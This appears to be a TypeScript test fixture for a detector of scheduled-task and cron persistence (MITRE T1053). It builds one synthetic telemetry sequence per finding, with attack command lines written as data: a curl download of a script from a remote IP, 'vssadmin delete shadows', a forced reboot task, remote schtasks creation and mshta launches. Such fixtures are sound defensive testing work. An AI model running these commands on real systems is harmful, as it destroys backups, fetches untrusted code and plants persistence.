/** One attack for each entry of the catalogue, its last step at a time of choice. */
import type { CloudOpEvent, TelemetryEvent } from '../../../src/core/event.ts';
import { accountGivenRights } from '../../../src/t1053/findings/account-given-rights.ts';
import { callerSignedInOddly } from '../../../src/t1053/findings/caller-signed-in-oddly.ts';
import { cronAddedAndRemoved } from '../../../src/t1053/findings/cron-added-and-removed.ts';
import { cronAfterDownload } from '../../../src/t1053/findings/cron-after-download.ts';
import { cronAfterPolicyChange } from '../../../src/t1053/findings/cron-after-policy-change.ts';
import { cronDuringPackageWork } from '../../../src/t1053/findings/cron-during-package-work.ts';
import { cronEditUnchanged } from '../../../src/t1053/findings/cron-edit-unchanged.ts';
import { cronEntryRun } from '../../../src/t1053/findings/cron-entry-run.ts';
import { cronRecordsJoined } from '../../../src/t1053/findings/cron-records-joined.ts';
import { cronTableRefused } from '../../../src/t1053/findings/cron-table-refused.ts';
import { draftRunUnpublished } from '../../../src/t1053/findings/draft-run-unpublished.ts';
import type { FindingPipeline } from '../../../src/t1053/findings/finding.ts';
import { operationForced } from '../../../src/t1053/findings/operation-forced.ts';
import { rebootInDestruction } from '../../../src/t1053/findings/reboot-in-destruction.ts';
import { rebootRealised } from '../../../src/t1053/findings/reboot-realised.ts';
import { runbookCleanedUp } from '../../../src/t1053/findings/runbook-cleaned-up.ts';
import { runbookSpread } from '../../../src/t1053/findings/runbook-spread.ts';
import { runbookStaged } from '../../../src/t1053/findings/runbook-staged.ts';
import { taskAudited } from '../../../src/t1053/findings/task-audited.ts';
import { taskConfirmedOnTarget } from '../../../src/t1053/findings/task-confirmed-on-target.ts';
import { taskCreatedAndRun } from '../../../src/t1053/findings/task-created-and-run.ts';
import { taskExecuted } from '../../../src/t1053/findings/task-executed.ts';
import { taskFromRiskyParent } from '../../../src/t1053/findings/task-from-risky-parent.ts';
import { taskRegisteredAndRemoved } from '../../../src/t1053/findings/task-registered-and-removed.ts';
import { taskRegisteredFromAfar } from '../../../src/t1053/findings/task-registered-from-afar.ts';
import { taskSpread } from '../../../src/t1053/findings/task-spread.ts';
import { taskUsedAndRemoved } from '../../../src/t1053/findings/task-used-and-removed.ts';
import { webhookUsed } from '../../../src/t1053/findings/webhook-used.ts';
import {
  accountMade,
  automation,
  cloudOp,
  runbook,
  SUBSCRIPTION,
  webhook,
} from '../azure-events.ts';
import { created, process } from '../events.ts';
import { auditedFile, crontabLine, moved, started } from '../linux-events.ts';
import { engineStarted, loggedOn, ran, restarted } from './found.ts';

export interface Row {
  readonly pipeline: FindingPipeline;
  /** The steps of an attack, the last one so long after the first, in milliseconds. */
  readonly attack: (lastMs: number) => readonly TelemetryEvent[];
  /** Positions of the steps without which nothing is to be told. Default: all. */
  readonly needed?: readonly number[];
  /** What the finding adds to the score of the first step. */
  readonly points: number;
}

const CREATE = 'schtasks /create /tn Updater /tr calc /sc once /st 23:00';
const REBOOT = 'schtasks /create /tn r /tr "shutdown /r /f /t 0" /sc once /st 23:00';
const TARGET = { host: 'srv07', fqdn: 'srv07.corp.example' };
const SESSION = { ...TARGET, logonId: '0xead4335' };
const TABLE = '/etc/cron.d/persistevil';
const SPOOL = '/var/spool/cron/crontabs';

export const ROWS: readonly Row[] = [
  {
    pipeline: taskCreatedAndRun,
    attack: (atMs) => [process(CREATE), ran('\\updater', atMs)],
    points: 20,
  },
  {
    pipeline: taskUsedAndRemoved,
    attack: (atMs) => [
      created('\\Updater'),
      process('schtasks /run /tn Updater', { atMs: Math.min(atMs, 5_000) }),
      process('schtasks /delete /tn UPDATER /f', { atMs }),
    ],
    needed: [0, 2],
    points: 25,
  },
  {
    pipeline: taskRegisteredAndRemoved,
    attack: (atMs) => [
      created('\\Updater'),
      created('\\Updater', { atMs, telemetry: 'security/4699', action: 'delete', user: 'LOCAL' }),
    ],
    points: 15,
  },
  {
    pipeline: taskAudited,
    attack: (atMs) => [
      process(CREATE, { pid: 4242 }),
      created('\\Updater', { atMs, clientPid: 4242 }),
    ],
    points: 0,
  },
  {
    pipeline: taskExecuted,
    attack: (atMs) => [process(CREATE), engineStarted('C:\\Windows\\System32\\calc.exe', atMs)],
    points: 15,
  },
  {
    pipeline: rebootInDestruction,
    attack: (atMs) => [
      process(REBOOT),
      process('vssadmin delete shadows /all /quiet', {
        atMs,
        image: 'C:\\Windows\\System32\\vssadmin.exe',
      }),
    ],
    points: 20,
  },
  {
    pipeline: rebootRealised,
    attack: (atMs) => [process(REBOOT), restarted('system/1074', atMs)],
    points: 15,
  },
  {
    pipeline: taskConfirmedOnTarget,
    attack: (atMs) => [
      process(`${CREATE} /s SRV07.corp.example`),
      loggedOn(atMs - 26, TARGET),
      created('\\Updater', { atMs, ...SESSION }),
    ],
    points: 25,
  },
  {
    pipeline: taskRegisteredFromAfar,
    attack: (atMs) => [
      loggedOn(0, { ...TARGET, logonId: '0x0ead4335' }),
      created('\\Updater', { atMs, ...SESSION }),
    ],
    points: 25,
  },
  {
    pipeline: cronAfterDownload,
    attack: (atMs) => [
      started('/usr/bin/curl', 'curl -O http://203.0.113.9/k.sh', { logonId: '0x7' }),
      auditedFile(TABLE, { atMs }),
    ],
    points: 15,
  },
  {
    pipeline: cronAddedAndRemoved,
    attack: (atMs) => [auditedFile(TABLE), auditedFile(TABLE, { op: 'delete', atMs })],
    points: 10,
  },
  {
    pipeline: draftRunUnpublished,
    attack: (atMs) => [runbook('draft/content/write'), runbook('draft/testjob/write', { atMs })],
    points: 30,
  },
  {
    pipeline: runbookCleanedUp,
    attack: (atMs) => [runbook('write'), runbook('delete', { atMs })],
    points: 20,
  },
  {
    pipeline: runbookStaged,
    attack: (atMs) => [runbook('write'), runbook('publish/action', { atMs })],
    points: 10,
  },
  {
    pipeline: runbookSpread,
    attack: (atMs) => [inAccount('a', 0), inAccount('b', 1), inAccount('c', atMs)],
    points: 20,
  },
  {
    pipeline: operationForced,
    attack: (atMs) => [runbook('write', { outcome: 'failure' }), runbook('write', { atMs })],
    points: 10,
  },
  {
    pipeline: taskSpread,
    attack: (atMs) =>
      [0, 1, 2, 3, atMs].map((ms, index) =>
        created('\\Updater', { atMs: ms, host: `srv${index}`, fqdn: undefined }),
      ),
    points: 30,
  },
  {
    pipeline: taskFromRiskyParent,
    attack: (atMs) => [
      process('mshta.exe a.hta', { image: 'C:\\Windows\\System32\\mshta.exe', processGuid: 'g1' }),
      process(CREATE, { atMs, parentGuid: 'g1' }),
    ],
    points: 15,
  },
  {
    pipeline: cronEntryRun,
    attack: (atMs) => [written('0 3 * * * root /opt/sync'), ranJob('root', '/opt/sync', atMs)],
    points: 20,
  },
  {
    pipeline: cronRecordsJoined,
    attack: (atMs) => [
      moved(`${SPOOL}/eve`, `${SPOOL}/tmp.ujxoRS`, { image: '/usr/bin/crontab' }),
      started('/usr/bin/crontab', 'crontab /tmp/new', { user: 'eve', atMs: Math.min(atMs, 5) }),
      crontabLine('eve', 'REPLACE', 'eve', { atMs }),
    ],
    needed: [0, 2],
    points: 0,
  },
  {
    pipeline: cronEditUnchanged,
    attack: (atMs) => [
      crontabLine('eve', 'BEGIN EDIT', 'eve'),
      crontabLine('eve', 'END EDIT', 'eve', { atMs }),
    ],
    points: 0,
  },
  {
    pipeline: cronDuringPackageWork,
    attack: (atMs) => [
      started('/usr/bin/dpkg', 'dpkg --configure -a', { host: 'db07' }),
      auditedFile(TABLE, { atMs, image: '/usr/bin/cp', host: 'db07' }),
    ],
    points: -20,
  },
  {
    pipeline: cronAfterPolicyChange,
    attack: (atMs) => [
      auditedFile('/etc/cron.allow', { op: 'write', access: 'append' }),
      auditedFile(`${SPOOL}/eve`, { atMs }),
    ],
    points: 15,
  },
  {
    pipeline: cronTableRefused,
    attack: (atMs) => [auditedFile(TABLE), refused(TABLE, atMs)],
    points: -10,
  },
  {
    pipeline: webhookUsed,
    attack: (atMs) => [webhook(), job(atMs)],
    points: 15,
  },
  {
    pipeline: accountGivenRights,
    attack: (atMs) => [accountMade(), role(1), runbook('write', { atMs })],
    points: 25,
  },
  {
    pipeline: callerSignedInOddly,
    attack: (atMs) => [signIn(0, { riskLevel: 'high' }), runbook('write', { atMs })],
    points: 15,
  },
];

/** A shell writes a line into a table. */
function written(line: string, path: string = TABLE): TelemetryEvent {
  return auditedFile(path, { commandLine: `bash -c "echo '${line}' > ${path}"` });
}

/** Cron's line on a job that it starts. */
function ranJob(user: string, command: string, atMs: number): TelemetryEvent {
  const cron = { telemetry: 'syslog/cron', program: 'cron', pid: 900 };
  return crontabLine(user, 'CMD', command, { ...cron, atMs });
}

/** Cron's line on a table that others may write. */
function refused(path: string, atMs: number): TelemetryEvent {
  const detail = `group/other writable) (${path}`;
  const cron = { telemetry: 'syslog/cron', program: 'cron', pid: 900 };
  return crontabLine('*system*', 'INSECURE MODE', detail, { ...cron, atMs });
}

/** A job of the account that nobody asked for. */
function job(atMs: number): TelemetryEvent {
  return automation('jobs/write', 'jobs/j1', { atMs, caller: undefined, callerType: undefined });
}

/** A role that is given on the subscription. */
function role(atMs: number): TelemetryEvent {
  const id = `/subscriptions/${SUBSCRIPTION}/providers/Microsoft.Authorization/roleAssignments/r1`;
  return cloudOp('Microsoft.Authorization/roleAssignments/write', id, { atMs });
}

/** A sign-in that went well. */
function signIn(atMs: number, more: Partial<CloudOpEvent> = {}): TelemetryEvent {
  const place = { telemetry: 'azure/signinlogs', subscription: undefined };
  return cloudOp('Sign-in activity', '/tenants/t/providers/Microsoft.aadiam', {
    ...place,
    ...more,
    atMs,
  });
}

/** A runbook of one name, written in an account of choice. */
function inAccount(account: string, atMs: number): TelemetryEvent {
  const event = runbook('write', { atMs });
  return { ...event, resourceId: (event.resourceId ?? '').replace('aa-ops', account) };
}
